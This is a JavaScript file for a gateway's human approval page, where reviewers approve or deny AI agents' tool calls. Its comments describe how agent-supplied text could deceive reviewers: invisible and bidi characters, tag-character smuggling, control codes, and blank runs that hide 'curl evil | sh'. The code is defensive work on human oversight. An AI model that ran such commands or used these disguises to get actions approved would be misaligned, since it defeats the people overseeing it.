// web/assets/approvals.js — the reviewers' page at /t/{tenant}/approvals
// (web/approvals.html; the gateway serves it only to an approver's browser
// session). Reads api/approvals — already filtered by the gateway to what
// this reviewer may decide and what they could have — every few seconds,
// counts each request's time down live, and approves or denies with
// POST approvals/{id}/approve|deny (the session's X-CSRF-Token). Arguments
// are an agent's text: every value goes in through textContent, never as
// markup. A card being decided keeps its reason field across refreshes.
'use strict';

(function () {
  const $ = (id) => document.getElementById(id);
  const REFRESH_MS = 5000;
  let csrf = '';
  const cards = new Map(); // request id → {card, deadline, left, buttons}

  function el(tag, text, cls) {
    const e = document.createElement(tag);
    if (text !== undefined && text !== null) e.textContent = String(text);
    if (cls) e.className = cls;
    return e;
  }

  function when(s) {
    if (!s) return null;
    const d = new Date(s);
    if (isNaN(d.getTime())) return null;
    const t = el('time', d.toLocaleString(undefined, { dateStyle: 'medium', timeStyle: 'short' }));
    t.dateTime = s;
    return t;
  }

  function cell(label, content) {
    const td = el('td');
    td.setAttribute('data-label', label);
    if (content instanceof Node) td.appendChild(content);
    else td.textContent = content === undefined || content === null ? '' : String(content);
    return td;
  }

  // A directory's names (SCIM) are shown as visible() shows an argument:
  // a display name with a run of blanks or a bidi override pushed away or
  // reversed the user name after it (function declarations are hoisted).
  function who(p) {
    if (!p) return 'someone';
    if (p.displayName && p.userName) return visible(p.displayName) + ' (' + visible(p.userName) + ')';
    return visible(p.userName || p.displayName || 'a deleted user');
  }

  function showError(msg) { $('error').textContent = msg || ''; }
  function say(msg) { $('status').textContent = msg; }

  async function errorMessage(res) {
    try {
      const j = await res.json();
      if (j && typeof j.message === 'string' && j.message) return j.message;
    } catch (e) { /* not JSON */ }
    return 'mcpgate answered HTTP ' + res.status + '. Try again in a moment.';
  }

  let isSignedOut = false;
  const gateOk = () => !!(window.mcpgateGesture && window.mcpgateGesture.ok());
  // gesture.js says when Approve may take a click; a card still open takes it
  window.addEventListener('mcpgate-gesture', () => {
    const now = Date.now();
    cards.forEach((c) => {
      if (!c.busy && !c.closed && !isSignedOut && c.deadline > now) c.buttons[0].disabled = !gateOk();
    });
  });

  function signedOut() {
    isSignedOut = true;
    $('sign-in').href = 'login?return=' + location.pathname;
    $('signed-out').hidden = false;
    cards.forEach((c) => c.buttons.forEach((b) => { b.disabled = true; }));
  }

  function left(ms) {
    if (ms <= 0) return 'expired';
    const s = Math.ceil(ms / 1000), h = Math.floor(s / 3600), m = Math.floor((s % 3600) / 60), r = s % 60;
    const mm = h ? String(m).padStart(2, '0') : String(m);
    return (h ? h + ':' : '') + mm + ':' + String(r).padStart(2, '0') + ' left';
  }

  function tick() {
    const now = Date.now();
    cards.forEach((c) => {
      const ms = c.deadline - now;
      c.left.textContent = left(ms);
      if (ms <= 0) c.buttons.forEach((b) => { b.disabled = true; });
    });
  }

  // Characters that are invisible or reorder text (bidi controls, zero
  // width, soft hyphen, fillers, format characters, C0 and C1 controls and
  // DEL, line and paragraph separators): an agent's text could hide or
  // disguise what the reviewer approves ("Trojan Source"), so they show as
  // \uXXXX. A C0 control in a tool name, a name or a reason drew as
  // nothing (ESC, CR) or folded into a space (a line break in a <code>),
  // so "read_file\r\u001b[2Kdelete_all" read as something else than what
  // runs; in the arguments JSON escapes them already, but not DEL, and the
  // JSON's own line breaks (json true) stay line breaks. By
  // property, astral planes included (the u flag): tag characters
  // U+E0000..E007F and the variation selectors supplement U+E0100..E01EF
  // draw as nothing and carry whole hidden texts ("ASCII smuggling"); they
  // show as \u{XXXXX}. Blank characters other than the space (U+00A0, the
  // U+2000 spaces, U+3000, U+2800 BRAILLE PATTERN BLANK) show as \uXXXX
  // too: a few thousand of them wrapped into screens of empty lines and
  // pushed the end of an argument ("ls /tmp<blank>; curl evil | sh") out of
  // the arguments' box. A run of four or more of one such character shows
  // once with its count (\u00a0×4000), and so does a run of 16 or more
  // spaces inside a line (not the JSON's own indentation): what follows a
  // run stays in view. In the arguments a backslash the agent wrote shows
  // as \\ (JSON), so neither form can be faked by the agent's text.
  const HIDDEN = /([\p{Default_Ignorable_Code_Point}\p{Cf}\p{Zs}\p{Cc}\u2028\u2029\u2800])\1*/gu;
  const RUN_MIN = 4, SPACES_MIN = 16;
  function visible(text, json) {
    return String(text).replace(HIDDEN, (run, c, at, all) => {
      if (c === '\n' && json) return run; // JSON.stringify's own: the agent's are escaped as \n
      if (c === ' ') {
        const indent = json && (at === 0 || all[at - 1] === '\n');
        return indent || run.length < SPACES_MIN ? run : '\\u0020\u00D7' + run.length;
      }
      const cp = c.codePointAt(0), n = run.length / c.length;
      const e = cp > 0xFFFF ? '\\u{' + cp.toString(16) + '}' : '\\u' + cp.toString(16).padStart(4, '0');
      return n < RUN_MIN ? e.repeat(n) : e + '\u00D7' + n;
    });
  }

  function pretty(args) {
    if (args === undefined || args === null) return '(no arguments)';
    try { return visible(JSON.stringify(args, null, 2), true); } catch (e) { return visible(args); }
  }

  // The paths (a.b[0].c) of the values masked before the reviewer sees
  // them: keys whose names look like secrets (audit_redact) read
  // "[redacted]". An upstream may name a tool's dangerous argument so
  // (query_token): the card says which values it does not show.
  const MASK = '[redacted]';
  function masked(v, path, out) {
    if (v === MASK && path) out.push(path);
    else if (Array.isArray(v)) v.forEach((x, i) => masked(x, path + '[' + i + ']', out));
    else if (v && typeof v === 'object')
      for (const k of Object.keys(v)) masked(v[k], path ? path + '.' + k : k, out);
    return out;
  }

  function row(dl, term, content) {
    dl.appendChild(el('dt', term));
    const dd = el('dd');
    if (content instanceof Node) dd.appendChild(content); else dd.textContent = content;
    dl.appendChild(dd);
  }

  function makeCard(r, fetchedAt) {
    const art = el('article', null, 'request');
    art.dataset.id = r.id;
    const h = el('h3');
    h.append(el('code', visible(r.tool)), ' on ', el('strong', visible(r.connector)));
    art.appendChild(h);
    const dl = el('dl');
    row(dl, 'Requested by', who(r.requester));
    row(dl, 'Requested', when(r.created) || '—');
    const lt = el('span', '', 'countdown');
    lt.setAttribute('role', 'timer');
    row(dl, 'Time left', lt);
    if (r.approvers && r.approvers.length) row(dl, 'Approvers', visible(r.approvers.join(', ')));
    art.appendChild(dl);
    art.appendChild(el('p', 'Arguments', 'label'));
    const pre = el('pre', null, 'args');
    pre.appendChild(el('code', pretty(r.arguments)));
    art.appendChild(pre);
    const a = r.arguments, hidden = masked(a, '', []);
    if (a && a.truncated === true && typeof a.digest === 'string') {
      art.appendChild(el('p', 'Not shown to you: the arguments (' + Number(a.bytes) + ' bytes, more than the gateway keeps ' +
        'for a reviewer), only their digest. Deny the call if you cannot judge it without them.', 'masked'));
    } else if (hidden.length) {
      const n = el('p', 'Not shown to you: ' + visible(hidden.join(', ')) + ' (names that look like secrets are masked). ' +
        'The call runs with them as the agent sent them: deny it if you cannot judge it without them.', 'masked');
      art.appendChild(n);
    }

    const form = el('form', null, 'decide');
    const fid = 'reason-' + r.id;
    const lab = el('label', 'Reason (optional)');
    lab.htmlFor = fid;
    const input = el('input');
    input.type = 'text';
    input.id = fid;
    input.maxLength = 500;
    input.autocomplete = 'off';
    const approve = el('button', 'Approve', 'primary');
    approve.type = 'submit';
    approve.dataset.gesture = ''; // gesture.js: only a click the reviewer meant
    approve.disabled = !gateOk();
    approve.setAttribute('aria-label', 'Approve ' + r.tool + ' for ' + who(r.requester));
    const deny = el('button', 'Deny');
    deny.type = 'button';
    deny.setAttribute('aria-label', 'Deny ' + r.tool + ' for ' + who(r.requester));
    const buttons = el('div', null, 'buttons');
    buttons.append(approve, deny);
    const err = el('p', '', 'alert');
    err.setAttribute('role', 'alert');
    form.append(lab, input, buttons, err);
    art.appendChild(form);
    const c = { card: art, left: lt, buttons: [approve, deny], input, err, busy: false, deadline: 0 };
    form.addEventListener('submit', (ev) => {
      ev.preventDefault();
      if (gateOk()) decide(r, 'approve', c);
    });
    deny.addEventListener('click', () => decide(r, 'deny', c));
    setDeadline(c, r, fetchedAt);
    return c;
  }

  function setDeadline(c, r, fetchedAt) {
    const s = Number(r.seconds_left);
    c.deadline = fetchedAt + (isFinite(s) ? s : 0) * 1000;
  }

  function renderPending(list, fetchedAt) {
    const box = $('pending');
    const seen = new Set();
    let moved = false;
    list.forEach((r) => {
      seen.add(r.id);
      let c = cards.get(r.id);
      if (!c) {
        // a new request goes below those shown: never in the place of the
        // card the reviewer is reading (found by review: a request inserted
        // above moved the cards, and the click meant for the one read
        // approved the new one)
        c = makeCard(r, fetchedAt);
        cards.set(r.id, c);
        box.appendChild(c.card);
        moved = true;
      } else {
        setDeadline(c, r, fetchedAt);
      }
    });
    cards.forEach((c, id) => {
      if (!seen.has(id) && !c.busy) {
        c.card.remove();
        cards.delete(id);
        moved = true;
      }
    });
    // the cards moved under the pointer: no approval for a moment
    if (moved && window.mcpgateGesture) window.mcpgateGesture.hold(1000);
    $('pending-none').hidden = cards.size > 0;
    tick();
  }

  const OUTCOME = { approved: 'Approved', denied: 'Denied', cancelled: 'Cancelled', expired: 'Expired (nobody decided)' };

  function renderHistory(list) {
    const body = $('history-body');
    body.replaceChildren();
    list.forEach((r) => {
      const tr = el('tr');
      const what = el('span');
      what.append(el('code', visible(r.tool)), ' on ' + visible(r.connector));
      tr.appendChild(cell('Request', what));
      tr.appendChild(cell('Requested by', who(r.requester)));
      tr.appendChild(cell('Outcome', OUTCOME[r.state] || r.state));
      tr.appendChild(cell('By', r.decided_by ? visible(r.decided_by) : '—'));
      tr.appendChild(cell('Reason', r.reason ? visible(r.reason) : '—'));
      tr.appendChild(cell('When', when(r.decided_at || r.expires) || '—'));
      body.appendChild(tr);
    });
    $('history-table').hidden = !list.length;
    $('history-none').hidden = !!list.length;
  }

  let timer = null;
  async function load() {
    clearTimeout(timer);
    let res;
    try {
      res = await fetch('api/approvals', { credentials: 'same-origin', cache: 'no-store', headers: { Accept: 'application/json' } });
    } catch (e) {
      showError('Could not reach mcpgate. Check your connection; the page retries on its own.');
      timer = setTimeout(load, REFRESH_MS);
      return;
    }
    if (res.status === 401) return signedOut();
    if (res.status !== 200) {
      showError(await errorMessage(res));
      if (res.status !== 403) timer = setTimeout(load, REFRESH_MS);
      return;
    }
    const fetchedAt = Date.now();
    let d;
    try {
      d = await res.json();
    } catch (e) {
      showError('mcpgate sent data this browser could not read. Reload to try again.');
      return;
    }
    showError('');
    csrf = d.csrf || '';
    $('tenant').textContent = d.tenant || '';
    $('who').textContent = d.user ? 'Signed in as ' + who(d.user) + '.' : '';
    renderPending(d.pending || [], fetchedAt);
    renderHistory(d.history || []);
    timer = setTimeout(load, REFRESH_MS);
  }

  async function decide(r, action, c) {
    if (c.busy) return;
    c.busy = true;
    c.buttons.forEach((b) => { b.disabled = true; });
    c.err.textContent = '';
    const reason = c.input.value.trim();
    let res;
    try {
      res = await fetch('approvals/' + encodeURIComponent(r.id) + '/' + action, {
        method: 'POST', credentials: 'same-origin', cache: 'no-store',
        headers: { 'X-CSRF-Token': csrf, 'Content-Type': 'application/json', Accept: 'application/json' },
        body: JSON.stringify(reason ? { reason } : {}),
      });
    } catch (e) {
      c.err.textContent = 'Could not reach mcpgate; nothing was decided.';
      c.busy = false;
      c.buttons.forEach((b) => { b.disabled = false; });
      c.buttons[0].disabled = !gateOk();
      return;
    }
    if (res.status === 401) {
      c.busy = false;
      return signedOut();
    }
    if (res.status !== 200) {
      c.err.textContent = await errorMessage(res);
      c.busy = false;
      if (res.status !== 409) {
        c.buttons.forEach((b) => { b.disabled = false; });
        c.buttons[0].disabled = !gateOk();
      } else c.closed = true;
      return;
    }
    c.busy = false;
    say((action === 'approve' ? 'Approved ' : 'Denied ') + r.tool + ' for ' + who(r.requester) + '.');
    c.card.remove();
    cards.delete(r.id);
    await load();
  }

  setInterval(tick, 1000);
  load();
})();
